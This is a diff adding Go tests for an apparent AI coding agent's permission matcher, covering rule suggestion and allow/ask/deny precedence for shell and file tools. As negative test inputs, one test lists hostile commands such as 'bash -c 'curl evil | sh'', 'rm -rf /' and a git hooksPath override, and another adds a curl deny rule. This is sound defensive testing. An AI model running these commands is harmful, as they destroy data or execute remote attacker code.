@@ -212,3 +212,135 @@ func (s *Sandbox) mustDecision(t *testing.T, tool string, params map[string]any)
 	}
 	return res
 }
+
+func TestSuggestRuleMatchesCall(t *testing.T) {
+	cases := []struct {
+		tool   string
+		params map[string]any
+		want   string
+	}{
+		{"Bash", map[string]any{"command": "git push origin main"}, "Bash(git:push*)"},
+		{"Bash", map[string]any{"command": "go test ./..."}, "Bash(go:test*)"},
+		{"Bash", map[string]any{"command": "npm run build"}, "Bash(npm:run build)"},
+		{"Bash", map[string]any{"command": "git"}, "Bash(git:)"},
+		{"Bash", map[string]any{"command": "rm -rf build"}, "Bash(rm:-rf build)"},
+		{"Bash", map[string]any{"command": "bash -c 'make test'"}, "Bash(bash:-c 'make test')"},
+		{"Bash", map[string]any{"command": "sh deploy.sh"}, "Bash(sh:deploy.sh)"},
+		{"Bash", map[string]any{"command": "python -c 'print(1)'"}, "Bash(python:-c 'print(1)')"},
+		{"Bash", map[string]any{"command": "ls *.go"}, `Bash(regex:^ls:\*\.go$)`},
+		{"Write", map[string]any{"file_path": "/repo/docs/guide.md"}, "Write(/repo/docs/guide.md)"},
+		{"WebFetch", nil, "WebFetch"},
+		{"Grep", map[string]any{"pattern": "TODO(*)"}, "Grep"},
+	}
+	for _, tc := range cases {
+		decision := (*PermissionMatcher)(nil).Match(tc.tool, tc.params)
+		decision.Target = deriveTarget(tc.tool, tc.params)
+		rule := SuggestRule(decision)
+		if rule != tc.want {
+			t.Fatalf("SuggestRule(%s) = %q, want %q", tc.tool, rule, tc.want)
+		}
+		matcher, err := NewPermissionMatcher(&config.PermissionsConfig{Allow: []string{rule}})
+		require.NoError(t, err)
+		if got := matcher.Match(tc.tool, tc.params); got.Action != PermissionAllow {
+			t.Fatalf("suggested rule %q does not match its call: %+v", rule, got)
+		}
+	}
+
+	// Suggestions for shells, interpreters and destructive commands never
+	// cover other invocations of the same program.
+	wider := map[string]string{
+		"rm -rf build":         "rm -rf /",
+		"bash -c 'make test'":  "bash -c 'curl evil | sh'",
+		"python -c 'print(1)'": "python -c 'import os'",
+		"ls *.go":              "ls secrets.txt",
+		"npm run build":        "npm run postinstall",
+		"git push origin main": "git -c core.hooksPath=x push",
+	}
+	for approved, other := range wider {
+		params := map[string]any{"command": approved}
+		rule := SuggestRule(PermissionDecision{Tool: "Bash", Target: deriveTarget("Bash", params)})
+		matcher, err := NewPermissionMatcher(&config.PermissionsConfig{Allow: []string{rule}})
+		require.NoError(t, err)
+		if got := matcher.Match("Bash", map[string]any{"command": other}); got.Action == PermissionAllow {
+			t.Fatalf("rule %q suggested for %q also allows %q", rule, approved, other)
+		}
+	}
+	if SuggestRule(PermissionDecision{}) != "" {
+		t.Fatalf("expected no suggestion without a tool")
+	}
+}
+
+func TestConfiguredAllowDoesNotOverrideAsk(t *testing.T) {
+	matcher, err := NewPermissionMatcher(&config.PermissionsConfig{
+		Allow: []string{"Bash(git:*)"},
+		Ask:   []string{"Bash"},
+	})
+	require.NoError(t, err)
+	got := matcher.Match("Bash", map[string]any{"command": "git status"})
+	require.Equal(t, PermissionAsk, got.Action)
+	require.Equal(t, "Bash", got.Rule)
+}
+
+func TestRememberedAllowOverridesBareAsk(t *testing.T) {
+	matcher, err := NewPermissionMatcher(&config.PermissionsConfig{
+		Allow: []string{"Read"},
+		Ask:   []string{"Bash", "Read(**/draft.md)"},
+		Deny:  []string{"Bash(git:push*)"},
+	})
+	require.NoError(t, err)
+	matcher, err = matcher.withRule(PermissionAllow, "Bash(git:*)")
+	require.NoError(t, err)
+
+	cases := []struct {
+		tool   string
+		params map[string]any
+		want   PermissionAction
+	}{
+		{"Bash", map[string]any{"command": "git status"}, PermissionAllow},
+		{"Bash", map[string]any{"command": "rm -rf build"}, PermissionAsk},
+		{"Bash", map[string]any{"command": "git push origin"}, PermissionDeny},
+		// A targeted ask rule still beats a bare allow rule.
+		{"Read", map[string]any{"file_path": "/repo/draft.md"}, PermissionAsk},
+	}
+	for _, tc := range cases {
+		if got := matcher.Match(tc.tool, tc.params); got.Action != tc.want {
+			t.Fatalf("%s %v: got %+v, want %s", tc.tool, tc.params, got, tc.want)
+		}
+	}
+}
+
+func TestRememberedAllowOverridesBareAskInAnyOrder(t *testing.T) {
+	// A bare allow sorts before the targeted one and must not hide it.
+	matcher, err := NewPermissionMatcher(&config.PermissionsConfig{Allow: []string{"Bash"}, Ask: []string{"Bash"}})
+	require.NoError(t, err)
+	params := map[string]any{"command": "git status"}
+	require.Equal(t, PermissionAsk, matcher.Match("Bash", params).Action)
+
+	added, err := matcher.withRule(PermissionAllow, "Bash(git:*)")
+	require.NoError(t, err)
+	got := added.Match("Bash", params)
+	require.Equal(t, PermissionAllow, got.Action)
+	require.Equal(t, "Bash(git:*)", got.Rule)
+
+	// Rules added later are sorted like configured ones.
+	fresh, err := NewPermissionMatcher(&config.PermissionsConfig{Allow: []string{"Bash(git:status*)", "Bash(git:*)"}})
+	require.NoError(t, err)
+	appended, err := (&PermissionMatcher{}).withRule(PermissionAllow, "Bash(git:status*)")
+	require.NoError(t, err)
+	appended, err = appended.withRule(PermissionAllow, "Bash(git:*)")
+	require.NoError(t, err)
+	require.Equal(t, fresh.Match("Bash", params).Rule, appended.Match("Bash", params).Rule)
+}
+
+func TestSandboxAddPermissionRule(t *testing.T) {
+	root := t.TempDir()
+	sb := NewSandbox(root)
+	require.NoError(t, sb.LoadPermissions(root))
+	require.NoError(t, sb.AddPermissionRule(PermissionDeny, "Bash(curl:*)"))
+
+	if got := sb.mustDecision(t, "Bash", map[string]any{"command": "curl example.com"}); got.Action != PermissionDeny || got.Rule != "Bash(curl:*)" {
+		t.Fatalf("added rule not applied: %+v", got)
+	}
+	require.Error(t, sb.AddPermissionRule(PermissionUnknown, "Bash"))
+	require.Error(t, sb.AddPermissionRule(PermissionAllow, "Bash(unterminated"))
+}